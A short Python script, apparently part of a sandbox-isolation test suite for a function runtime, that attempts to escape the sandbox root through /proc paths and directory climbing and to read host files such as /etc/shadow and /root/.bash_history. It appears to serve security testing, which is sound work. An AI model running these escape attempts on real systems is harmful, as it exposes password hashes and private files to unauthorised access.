#!/usr/bin/env python3
"""Attack: escape the root through /proc/self/root, /proc/1/root, /proc/self/cwd, /proc/*/fd and
the "..".. of the sandbox root, looking for host files whose paths arrive in the event."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from attack_runtime import attempt, serve  # noqa: E402


def read(path):
    with open(path, "rb") as f:
        return f.read(200).decode(errors="replace")


def handler(event):
    host_files = event.get("host_files", [])
    prefixes = ["/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../..", "/proc/1/cwd/../..",
                "/proc/self/root/../../..", "/../../.."]
    out = {"root": sorted(os.listdir("/")), "reads": {}, "listings": {}}
    for pre in prefixes:
        out["listings"][pre] = attempt(lambda: sorted(os.listdir(pre)))
        for hf in host_files + ["/etc/shadow", "/root/.bash_history"]:
            out["reads"][pre + hf] = attempt(read, pre + hf)
    # chdir into /proc/self/root, then keep going "..".
    def climb():
        fd = os.open("/proc/self/root", os.O_RDONLY | os.O_DIRECTORY)
        try:
            os.fchdir(fd)
            for _ in range(20):
                os.chdir("..")
            return sorted(os.listdir("."))
        finally:
            os.close(fd)
            os.chdir("/var/task")
    out["climb"] = attempt(climb)
    out["fds"] = {}
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        out["fds"][fd] = attempt(os.readlink, f"/proc/self/fd/{fd}")
    out["exe"] = attempt(os.readlink, "/proc/1/exe")
    # Information only: does the mount table name host paths (e.g. the code directory)?
    with open("/proc/self/mountinfo") as f:
        out["mountinfo"] = [" ".join(line.split()[3:5]) for line in f]
    out["found"] = [p for p, r in out["reads"].items() if r["ok"]]
    return out


serve(handler)
